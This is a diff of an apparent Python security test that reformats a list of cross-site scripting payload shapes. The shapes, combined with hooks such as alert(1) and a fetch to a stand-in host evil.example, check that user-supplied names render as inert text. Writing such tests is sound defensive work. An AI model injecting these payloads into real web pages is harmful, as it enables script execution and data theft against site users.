@@ -90,12 +90,25 @@ def test_hostile_words_stay_words(tab: Tab, broker: ScriptedBroker) -> None:
     join(tab, broker, name="<img src=x onerror=alert(1)>")
     hooks = ["alert(1)", "alert`1`", "top.alert(1)", "fetch('https://evil.example')", "import('data:text/javascript,alert(1)')"]
     shapes = [
-        "<script>{}</script>", "<img src=x onerror=\"{}\">", "<svg onload='{}'>", "<a href=\"javascript:{}\">x</a>", "javascript:{}",
-        "\"><script>{}</script>", "'><svg/onload={}>", "</textarea><script>{}</script>", "<iframe srcdoc='<script>{}</script>'></iframe>",
-        "<style>@import'data:,{}'</style>", "<math><a xlink:href=javascript:{}>x", "<details open ontoggle={}>",
+        "<script>{}</script>",
+        '<img src=x onerror="{}">',
+        "<svg onload='{}'>",
+        '<a href="javascript:{}">x</a>',
+        "javascript:{}",
+        '"><script>{}</script>',
+        "'><svg/onload={}>",
+        "</textarea><script>{}</script>",
+        "<iframe srcdoc='<script>{}</script>'></iframe>",
+        "<style>@import'data:,{}'</style>",
+        "<math><a xlink:href=javascript:{}>x",
+        "<details open ontoggle={}>",
         "{{{{constructor.constructor('{}')()}}}}",
-        "${{{}}}", "<base href=//evil.example><script src={}></script>", "<form action=javascript:{}><input type=submit>",
-        "https://x.example/\"onmouseover=\"{}", "https://x.example/<script>{}</script>", "data:text/html,<script>{}</script>",
+        "${{{}}}",
+        "<base href=//evil.example><script src={}></script>",
+        "<form action=javascript:{}><input type=submit>",
+        'https://x.example/"onmouseover="{}',
+        "https://x.example/<script>{}</script>",
+        "data:text/html,<script>{}</script>",
         "\u202e<b onclick={}>\u2066",
     ]
     payloads = [shape.format(hook) for shape, hook in itertools.product(shapes, hooks)]
